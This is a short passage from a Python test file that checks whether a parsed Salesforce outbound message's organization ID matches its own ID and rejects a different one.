    assert organization_matches(received, ours) is expected


def test_real_message_organization_matches_its_own_id_only() -> None:
    message = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode())

    assert organization_matches(message.organization_id, "012345678901234ABC")
    assert not organization_matches(message.organization_id, "012345678901235")
